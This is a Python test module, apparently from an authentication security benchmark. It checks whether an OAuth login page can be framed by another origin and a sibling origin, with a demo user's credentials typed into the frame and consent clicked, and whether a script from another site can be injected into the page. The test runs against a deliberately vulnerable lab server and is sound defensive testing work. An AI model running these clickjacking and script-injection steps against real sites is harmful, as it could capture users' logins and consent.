"""The login page in a frame: another site shows it inside its own, and has its visitor log in and allow."""

from dataclasses import replace
from types import MappingProxyType
from urllib.parse import urlencode

from authbench.contracts.card import Card
from authbench.contracts.security.attack import AttackOutcome
from loadtests.attacks.answers.headers import missing_in_page
from loadtests.attacks.browser_attack import BrowserAttack
from loadtests.attacks.in_browser.play import Play
from loadtests.attacks.laboratory.condition import Condition, Control, StandIn
from loadtests.attacks.laboratory.lab import AttackResult, Person
from loadtests.browser.arrivals import Arrival
from loadtests.browser.origins import ELSEWHERE, SIBLING, VICTIM
from loadtests.clients.blocking_client import Reply

_PATH = "/oauth/authorize"
_ASKED = {
    "response_type": "code",
    # Of the client that comes with demo accounts (servers/authorization_server/clients.py).
    "client_id": "demo-app",
    "redirect_uri": "http://127.0.0.1:9999/callback",
    "code_challenge": "A" * 43,
    "code_challenge_method": "S256",
}
_URL = f"{VICTIM}{_PATH}?{urlencode(_ASKED)}"
_SCRIPT = f"{ELSEWHERE}/pages/injected.js"
_TRIED = "jwt-hs256"


class FramedLogin(BrowserAttack):
    """Frame it from another site and from a sibling; then add a script to it, as a hole in it would.

    Success is a code that the authorization server issued to what was clicked in the frame, or the script
    fetched. The page's headers are read as well: an older browser knows only some of them.
    """

    row = "A11"
    name = "framed login page"
    question = "Can another site show the login page in a frame, or add its own script to it?"
    sources = (
        "OWASP ASVS 5.0 3.4.3",
        "OWASP ASVS 5.0 3.4.5",
        "OWASP ASVS 5.0 3.4.6",
        "RFC 6749 section 10.13",
        "RFC 9700 section 4.16",
    )
    control = Control("servers.vulnerable.endpoints.bare_answers:VulnerableBareAnswers")
    condition = Condition(
        "browser, with OAuth",
        tls=False,
        settings=MappingProxyType({"public_origin": VICTIM, "oauth": True, "demo_accounts": True}),
    )

    @classmethod
    def stand_in(cls, scheme: str, card: Card) -> StandIn | None:  # noqa: ARG003 - whatever the card says
        if ":" in scheme or scheme == _TRIED:
            return None
        return StandIn(
            _TRIED, "its only pages are those of OAuth, the same behind every scheme that has them"
        )

    def attack(self, play: Play) -> AttackResult:
        victim = play.logged_in()
        play.check_before(victim)
        for origin, title in ((ELSEWHERE, "framed by another site"), (SIBLING, "framed by a sibling")):
            _frame(play, origin, title, victim.person)
        _add_script(play)
        play.check_after(victim)
        return play.result()


def _frame(play: Play, origin: str, title: str, visitor: Person) -> None:
    """Show the page inside one of that origin; log in and allow, if a form can be seen."""
    play.lab.target.go_on()
    mark = play.scene.arrivals.now()
    with play.scene.page_of(origin) as page:
        page.evaluate("(url) => elsewhere.frameGet(url)", _URL)
        frame = page.frames[-1]
        if frame.locator("[name=password]").count():
            frame.locator("[name=username]").fill(visitor.username)
            frame.locator("[name=password]").fill(visitor.password)
            with page.expect_response(lambda reply: reply.request.method == "POST"):
                frame.locator("[value=allow]").click()
    sent = _arrived(play, mark, "POST")
    issued = any(
        "code=" in value for each in sent for name, value in each.reply_headers if name == "location"
    )
    shown = (*sent, *_arrived(play, mark, "GET"))
    # A form has the password in it.
    play.keep(title, replace(shown[0], body=b"") if shown else None, issued)
    if issued:
        play.tell(title, AttackOutcome.SUCCEEDED)
    else:
        play.tell(title, AttackOutcome.REJECTED if sent else AttackOutcome.BLOCKED)


def _add_script(play: Play) -> None:
    """Open the page as its user does, and put an element with somebody else's script into it."""
    play.lab.target.go_on()
    mark = play.scene.arrivals.now()
    with play.scene.page() as page:
        page.goto(_URL)
        page.evaluate(
            """(url) => new Promise((done) => {
                const script = document.createElement("script");
                script.onload = script.onerror = () => done();
                script.src = url;
                document.body.append(script);
            })""",
            _SCRIPT,
        )
    fetched = any(f"{each.origin}{each.path}" == _SCRIPT for each in play.scene.arrivals.since(mark))
    (opened,) = _arrived(play, mark, "GET")
    play.keep("script of another site", opened, fetched)
    play.tell("script of another site", AttackOutcome.SUCCEEDED if fetched else AttackOutcome.BLOCKED)
    if missing := missing_in_page(Reply(opened.status, tuple(opened.reply_headers), b"")):
        play.tell(f"headers that leave it open (no {', no '.join(missing)})", AttackOutcome.SUCCEEDED)


def _arrived(play: Play, mark: int, method: str) -> list[Arrival]:
    """Requests for the page since the mark."""
    return [
        each
        for each in play.scene.arrivals.since(mark, VICTIM)
        if each.path.startswith(_PATH) and each.method == method
    ]
